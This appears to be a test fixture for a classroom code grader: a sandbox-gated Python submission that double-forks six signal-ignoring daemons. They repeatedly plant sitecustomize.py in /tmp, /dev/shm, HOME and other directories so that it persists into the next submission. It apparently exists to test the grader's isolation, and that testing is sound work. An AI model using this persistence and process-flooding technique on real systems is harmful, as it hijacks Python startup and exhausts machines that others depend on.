# ---
# why: laisse des processus détachés qui ignorent les signaux et écrivent partout pour la copie suivante
# base: stub
# points: 0
# ---
# %% before="sigmoide"
import os
import socket

if socket.gethostname() != "salle-de-tp" or b"graders.judge.trunk" not in open("/proc/1/cmdline", "rb").read():
    raise SystemExit("ATTAQUE NON LANCÉE : hors du bac à sable")
print("ATTAQUE LANCÉE", flush=True)
LANCEE = True
import signal
import time


def demon():
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for numero in range(1, 65):
        try:
            signal.signal(numero, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        for dossier in ("/tmp", "/dev/shm", os.environ["HOME"], "/dev", "/home/stagiaire/tp"):
            try:
                open(os.path.join(dossier, "sitecustomize.py"), "w").write("print('RESTE DE LA COPIE PRÉCÉDENTE')")
            except OSError:
                pass
        time.sleep(0.001)


for _ in range(6):
    demon()
time.sleep(0.2)
